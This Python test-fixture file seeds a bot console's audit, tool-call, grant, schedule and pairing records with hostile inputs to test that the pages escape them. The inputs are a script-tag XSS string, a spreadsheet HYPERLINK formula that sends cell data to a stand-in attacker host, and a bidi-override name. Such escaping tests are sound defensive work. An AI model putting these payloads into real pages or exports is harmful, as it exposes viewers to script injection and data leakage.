"""Records for the console's record pages, written through the store's own repositories and
books into the rig's database: audit rows, turns with tool calls, grants, scheduled jobs and
pairing codes. Text that people or models write carries markup and formula starts, so the
pages are seen to escape it."""

from __future__ import annotations

import json
import time
from dataclasses import replace

from bot.envelope import ChannelRef
from bot.schedules.book import ScheduleBook
from bot.schedules.job import JobSpec, ScheduledJob, StoredTarget
from bot.store import InboxKey, InboxStatus, Store
from bot.store.audit import AuditEntry, Decision
from bot.store.grants import NewGrant
from bot.store.pairings import PairingRecord
from bot.store.tool_calls import ToolCallRecord
from bot.tools.receipt import ReceiptSigner
from bot.turn import CancelReason
from tests.store.records import envelope, session_of, turn

TELEGRAM = "telegram.main"
#: A channel the rig does not run and its approver does not approve.
OTHER = "slack.ops"
HOSTILE = "<script>window.pwned = 1</script><b>bold</b>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TOOLS = ("deploy", "shell", "write_file")


async def audit_rows(store: Store, count: int, *, start: float | None = None) -> list[int]:
    """``count`` decisions, one second apart and oldest first, on both channels; every
    tenth a hostile requester on Telegram. Their ids."""
    base = (time.time() - count - 60) if start is None else start
    ids = []
    for i in range(count):
        hostile = i % 10 == 0
        ids.append(
            await store.audit.append(
                AuditEntry(
                    at=base + i,
                    channel=OTHER if i % 3 == 2 else TELEGRAM,
                    conversation_id=f"c{i % 4}",
                    requester=FORMULA if hostile else f"u{i % 5}",
                    tool=TOOLS[i % len(TOOLS)],
                    summary=json.dumps([f"version: v{i}", f"note: {HOSTILE if hostile else 'ok'}"]),
                    fingerprint="f" * 64,
                    decision=Decision.DENIED if i % 4 == 0 else Decision.APPROVED,
                    decided_by="2002" if i % 2 else "runtime",
                    reason="web" if i % 5 == 0 else "click",
                )
            )
        )
    return ids


async def turns(store: Store) -> tuple[str, str]:
    """A Telegram turn whose message is hostile markup, and a turn on the other channel:
    their turn ids (each with one recorded tool call)."""
    mine = await turn(store, envelope("1001", "1001", "m-tg", text=HOSTILE, direct=True))
    other_channel = ChannelRef(kind="slack", alias="ops")
    theirs = await turn(store, envelope("U9", "C9", "m-sl", text="other", channel=other_channel))
    return mine, theirs


async def signed_calls(store: Store, turn_id: str, session_key: str, key: str) -> None:
    """Two more calls of the turn ``turn_id``, signed with ``key``: ``ping`` as it was
    signed, ``fetch`` with its stored result changed afterwards."""
    signer = ReceiptSigner(key.encode())
    for tool, changed in (("ping", False), ("fetch", True)):
        record = ToolCallRecord(
            turn_id=turn_id,
            call_id=f"c-{tool}",
            session_key=session_key,
            channel=TELEGRAM,
            tool=tool,
            arguments=json.dumps({"host": "db1", "api_key": "[masked]"}),
            status="executed",
            synthetic=False,
            observation="pong",
            duration_ms=12.5,
            approved_by="2002",
            arguments_sha256="a" * 64,
            result_sha256="b" * 64,
            created_at=time.time(),
        )
        sealed = replace(record, receipt=signer.receipt_for(record))
        await store.tool_calls.record(
            replace(sealed, observation="tampered") if changed else sealed
        )


async def grant(store: Store, tool: str = "deploy", *, scope_key: str = TELEGRAM) -> int:
    return await store.grants.create(
        NewGrant(
            tool=tool,
            scope="channel",
            scope_key=scope_key,
            granted_by="2002",
            created_at=time.time(),
        )
    )


async def job(store: Store, name: str = "standup") -> ScheduledJob:
    origin = StoredTarget(channel=TELEGRAM, conversation_id="1001")
    spec = JobSpec(
        prompt=f"Summarise the night's alerts {HOSTILE}",
        name=name,
        cron="0 9 * * *",
        origin=origin,
        target=origin,
        creator_id="1001",
        creator_name="Requester",
    )
    return await ScheduleBook(store.schedules).add(spec, now=time.time())


async def pairing(store: Store, code: str, user_id: str = "5005") -> None:
    now = time.time()
    await store.pairings.create(
        PairingRecord(
            code=code,
            channel=TELEGRAM,
            user_id=user_id,
            display_name=f"Mallory {HOSTILE}",
            status="pending",
            created_at=now,
            expires_at=now + 3600,
        )
    )


#: The names the platform gave: the approver's carries a bidi override, the requester's markup.
APPROVER_NAME = "Dana \u202eApprover"
REQUESTER_NAME = f"Rita {HOSTILE}"

#: (tool, stored fields, the words the turns page says, the outcome's CSS class)
OUTCOMES: tuple[tuple[str, dict[str, object], str, str], ...] = (
    ("ping", {"failed": False, "reason": "none"}, "ran ok", "outcome-ok"),
    (
        "shell",
        {"failed": True, "failure": "exit 1", "reason": "none", "observation": "no such file"},
        "ran and failed: exit 1",
        "outcome-failed",
    ),
    (
        "deploy",
        {
            "status": "not_executed",
            "synthetic": True,
            "failed": False,
            "reason": "denied_by_person",
            "decision": "denied",
            "decided_by": "2002",
        },
        "denied by Dana \\u202eApprover (2002)",
        "outcome-denied",
    ),
    (
        "write_file",
        {
            "status": "not_executed",
            "synthetic": True,
            "failed": False,
            "reason": "edited",
            "decision": "edited",
            "decided_by": "2002",
        },
        "denied with a reply by Dana \\u202eApprover (2002)",
        "outcome-denied",
    ),
    (
        "restart",
        {
            "status": "not_executed",
            "synthetic": True,
            "failed": False,
            "reason": "approval_timed_out",
            "decision": "expired",
            "decided_by": "runtime",
            "decision_reason": "timeout",
        },
        "expired: nobody answered in time",
        "outcome-expired",
    ),
    (
        "backup",
        {
            "failed": False,
            "reason": "none",
            "decision": "policy_allowed",
            "decided_by": "runtime",
            "decision_reason": "policy: grant #12",
            "grant_id": 12,
        },
        "ran ok under grant #12",
        "outcome-ok",
    ),
    (
        "http_fetch",
        {"status": "interrupted", "synthetic": True, "failed": False, "reason": "cancelled"},
        "stopped",
        "outcome-stopped",
    ),
)


async def outcome_turns(store: Store) -> tuple[str, str]:
    """A turn whose calls ended every way (:data:`OUTCOMES`, after the old-style call every
    recorded turn has) and a turn ``/stop`` ended, in the Telegram DM of 1001; the names the
    platform gave the requester and the approver. Their turn ids."""
    env = envelope("1001", "1001", "m-outcomes", text="check the servers", direct=True)
    turn_id = await turn(store, env)
    session = session_of(env)
    for index, (tool, fields, _words, _css) in enumerate(OUTCOMES):
        base: dict[str, object] = {
            "turn_id": turn_id,
            "call_id": f"c-{index}-{tool}",
            "session_key": session,
            "channel": TELEGRAM,
            "tool": tool,
            "arguments": json.dumps({"host": "db1", "api_key": "[masked]"}),
            "status": "executed",
            "synthetic": False,
            "observation": "ok",
            "duration_ms": 40.0,
            "created_at": time.time(),
        }
        await store.tool_calls.record(ToolCallRecord(**{**base, **fields}))  # type: ignore[arg-type]
    stopped_env = envelope("1001", "1001", "m-stopped", text="a long job", direct=True)
    stopped = await turn(store, stopped_env)
    await store.inbox.mark(
        InboxKey(channel=TELEGRAM, message_id="m-stopped"), InboxStatus.DONE, CancelReason.STOP
    )
    now = time.time()
    await store.display_names.remember("telegram:2002", APPROVER_NAME, now)
    await store.display_names.remember("telegram:1001", REQUESTER_NAME, now)
    return turn_id, stopped
